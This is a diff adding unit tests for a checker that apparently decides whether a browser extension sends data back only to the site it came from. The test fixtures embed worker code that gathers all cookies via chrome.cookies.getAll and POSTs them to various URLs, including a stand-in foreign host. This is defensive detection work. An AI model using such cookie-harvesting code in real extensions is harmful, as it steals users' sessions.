@@ -129,3 +129,28 @@ function staying(files: Readonly<Record<string, string>>, manifest: object): boo
   const thefts = flows.filter(({ direction }) => direction === 'theft');
   return thefts.map((flow) => ownSiteFlows.has(flow));
 }
+
+describe('data goes back to the address that it was asked for', () => {
+  const asking = (url: string): string =>
+    `function again(url, other) { chrome.cookies.getAll({ url }, (all) => { fetch(${url}, { method: 'POST', body: JSON.stringify(all) }); }); } chrome.runtime.onMessage.addListener(({ url, other }) => again(url, other));`;
+  const back: readonly (readonly [what: string, url: string])[] = [
+    ['itself', 'url'],
+    ['with a path', "url + '/session'"],
+    ['by its origin', '`${new URL(url).origin}/session`'],
+    ['as a base', "new URL('/session', url).href"],
+    ['by its host', "'https://' + new URL(url).hostname + '/session'"],
+  ];
+  for (const [what, url] of back)
+    it(what, () => assert.equal(staying({ 'worker.js': asking(url) }, everywhere)[0], true));
+
+  const elsewhere: readonly (readonly [what: string, url: string])[] = [
+    ['another address', 'other'],
+    ['a longer host', "url + '.in.a.dev'"],
+    ['an address that holds it', "'https://in.a.dev/?' + url"],
+    ['an address behind it', 'new URL(other, url).href'],
+    ['a longer host by its host', "'https://' + new URL(url).hostname + '.in.a.dev'"],
+  ];
+  for (const [what, url] of elsewhere)
+    it(`and not ${what}`, () =>
+      assert.equal(staying({ 'worker.js': asking(url) }, everywhere)[0], false));
+});
